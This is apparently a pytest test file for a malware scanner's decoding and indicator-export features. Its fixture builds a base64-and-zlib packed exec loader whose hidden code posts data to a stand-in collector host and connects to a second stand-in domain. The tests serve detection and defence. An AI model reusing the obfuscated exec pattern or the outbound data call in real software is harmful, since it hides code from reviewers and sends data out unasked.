"""What decoding reveals is shown cut and escaped, and written as indicators that ``ioc import`` takes."""

from __future__ import annotations

import base64
import hashlib
import zlib
from typing import TYPE_CHECKING

import pytest

from assay.corpus.indicator_csv import parse
from tests.command import assay

if TYPE_CHECKING:
    from pathlib import Path

INNER = (
    "import urllib.request\n"
    "name = 'harm" + "\\x1b[2J" + "less'\n"
    "urllib.request.urlopen('https://collector.example.invalid/drop?id=7', data=b'x')\n"
    "import socket; socket.create_connection(('second.example.invalid', 443))\n"
    "urllib.request.urlopen('http://127.0.0.1/local')\n" + "pad = 1\n" * 40
)
PACKED = base64.b64encode(zlib.compress(INNER.encode())).decode()
ONE = f"import base64, zlib\nexec(zlib.decompress(base64.b64decode('{PACKED}')))\n"
PLAIN = "import urllib.request\nurllib.request.urlopen('https://open.example.invalid/')\nexec('x = 1')\n"


@pytest.fixture
def tree(tmp_path: Path) -> Path:
    folder = tmp_path / "tree"
    folder.mkdir()
    (folder / "pyproject.toml").write_text('[project]\nname = "demo"\nversion = "1"\n')
    (folder / "one.py").write_text(ONE)
    (folder / "plain.py").write_text(PLAIN)
    return folder


def test_layers_are_shown_cut_and_escaped(tree: Path) -> None:
    shown = assay("scan", tree, "--show-decoded").stdout
    digest = hashlib.sha256(INNER.encode()).hexdigest()
    assert "Decoded at one.py:2: " in shown
    assert f"sha256 {digest}" in shown
    assert "1 decoded layer\n" in shown
    assert "https[:]//collector.example.invalid/drop" in shown
    assert "\x1b" not in shown
    assert "pad = 1\n" * 20 not in shown
    assert "open.example.invalid" not in shown.partition("Decoded at")[2]


def test_indicators_can_be_imported(tree: Path, tmp_path: Path) -> None:
    target = tmp_path / "found.csv"
    assert assay("scan", tree, "--iocs", target, "-f", "json").returncode == 0
    found = {(entry.kind.value, entry.value) for entry in parse(target.read_bytes())}
    assert found == {
        ("file", hashlib.sha256(INNER.encode()).hexdigest()),
        ("url", "https://collector.example.invalid/drop?id=7"),
        ("domain", "collector.example.invalid"),
        ("domain", "second.example.invalid"),
    }


def test_nothing_decoded_is_an_empty_list(tmp_path: Path) -> None:
    (tmp_path / "pyproject.toml").write_text('[project]\nname = "demo"\nversion = "1"\n')
    target = tmp_path / "found.csv"
    shown = assay("scan", tmp_path, "--show-decoded", "--iocs", target).stdout
    assert "0 decoded layers" in shown
    assert parse(target.read_bytes()) == ()


def test_text_for_a_person_is_not_mixed_into_json(tree: Path) -> None:
    refused = assay("scan", tree, "--show-decoded", "-f", "json")
    assert (refused.returncode, refused.stderr.count("\n")) == (2, 1)
    assert "--show-decoded" in refused.stderr
